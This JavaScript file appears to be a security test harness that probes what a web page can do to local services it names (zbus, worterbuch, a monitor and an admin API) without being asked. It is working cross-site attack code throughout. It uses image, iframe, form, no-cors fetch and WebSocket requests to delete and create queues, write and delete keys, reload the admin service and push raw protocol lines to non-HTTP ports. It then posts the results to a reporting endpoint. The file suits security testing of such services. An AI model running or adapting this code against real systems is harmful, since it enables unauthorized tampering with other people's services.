// What a page can do to servers of others without being asked. DOORS and REPORT are set by the page.

const done = {images: 0, frames: 0, forms: 0, posts: 0, opened: [], read: []};

function settled(element, source) {
  return new Promise(resolve => {
    element.onload = element.onerror = resolve;
    if (source !== undefined) element.src = source;
    if (!(element instanceof HTMLImageElement)) document.body.append(element);
  });
}

async function image(url) {
  await settled(new Image(), url);
  done.images++;
}

async function element(name, url) {
  await settled(document.createElement(name), url);
  done.frames++;
}

async function form(url, enctype, fields, method = "post") {
  const frame = document.createElement("iframe");
  frame.name = `form${Math.random()}`;
  await settled(frame, "about:blank");
  const form = document.createElement("form");
  Object.assign(form, {action: url, enctype, method, target: frame.name});
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("textarea");
    Object.assign(input, {name, value});
    form.append(input);
  }
  document.body.append(form);
  const loaded = new Promise(resolve => { frame.onload = resolve; });
  form.submit();
  await loaded;
  done.forms++;
}

async function post(url, body, type = "text/plain") {
  try {
    await fetch(url, {method: "POST", mode: "no-cors", headers: {"content-type": type}, body});
  } catch {
    // A port that speaks no HTTP.
  }
  done.posts++;
}

async function read(url, options = {}) {
  try {
    const answer = await fetch(url, options);
    const text = await answer.text();
    if (answer.ok) done.read.push(`${options.method ?? "GET"} ${url} ${text.length}`);
  } catch {
    // The browser does not show it to this page.
  }
}

function talk(url, texts) {
  return new Promise(resolve => {
    const socket = new WebSocket(url);
    let answers = 0;
    socket.onopen = () => { done.opened.push(url); texts.forEach(text => socket.send(JSON.stringify(text))); };
    // What is asked last is answered last.
    socket.onmessage = event => { if (++answers >= texts.length && event.data.includes("last")) socket.close(); };
    socket.onclose = resolve;
  });
}

async function attack() {
  const {zbus, monitor, worterbuch, admin, raw} = DOORS;
  for (const door of [zbus, monitor]) {
    for (const query of ["cmd=remove&mq=Image", "cmd=create&mq=FromImage", "cmd=pub&mq=T&body=image", "cmd=take&mq=T&channel=C"]) {
      await image(`http://${door}/?${query}`);
      for (const name of ["iframe", "script"]) await element(name, `http://${door}/?${query}`);
      await read(`http://${door}/?${query.replace("Image", "Fetch")}`, {mode: "no-cors"});
    }
  }
  await image(`http://${zbus}/T/call`);
  await form(`http://${zbus}/`, "application/x-www-form-urlencoded", {cmd: "remove", mq: "Image"}, "get");
  await form(`http://${zbus}/?cmd=remove&mq=Form`, "application/x-www-form-urlencoded", {a: "1"});
  await form(`http://${zbus}/?cmd=pub&mq=T`, "text/plain", {a: "1"});
  await form(`http://${zbus}/?cmd=create&mq=FromForm`, "multipart/form-data", {a: "1"});
  await form(`http://${worterbuch}/api/set`, "application/x-www-form-urlencoded", {"k/form": "1"});
  await form(`http://${admin}/api/reload`, "application/x-www-form-urlencoded", {});
  await post(`http://${zbus}/?cmd=create&mq=FromPost`, "x");
  await post(`http://${worterbuch}/api/v1/import`, DOORS.tree);
  await post(`http://${worterbuch}/api/set`, "k/post=1", "application/x-www-form-urlencoded");
  await read(`http://${worterbuch}/api/v1/set/k/json`, {method: "POST", headers: {"content-type": "application/json"}, body: "1"});
  await read(`http://${worterbuch}/api/v1/delete/k`, {method: "DELETE"});
  for (const door of raw) {
    const line = '{"set":{"transactionId":1,"key":"k/raw","value":"page"}}\n';
    await post(`http://${door}/`, `\n${line.repeat(100)}`);
    await form(`http://${door}/`, "text/plain", {[`\n${line}`]: line});
    await form(`http://${door}/`, "multipart/form-data", {a: `\n${line}`});
  }
  for (const door of [zbus, monitor]) await read(`http://${door}/?cmd=query`);
  await read(`http://${worterbuch}/api/v1/pget/%23`);
  for (const path of ["/metrics", "/health", "/api/topics"]) await read(`http://${admin}${path}`);
  for (const door of [zbus, monitor]) {
    await talk(`ws://${door}/`, [
      {headers: {cmd: "create", mq: "FromSocket", id: "first"}},
      {headers: {cmd: "query", id: "last"}},
    ]);
  }
  await talk(`ws://${worterbuch}/ws`, [
    {set: {transactionId: 1, key: "k/socket", value: "last"}},
    {get: {transactionId: 2, key: "k/socket"}},
  ]);
}

attack().then(() => done, error => ({...done, error: String(error)}))
  .then(told => fetch(REPORT, {method: "POST", body: JSON.stringify(told)}));
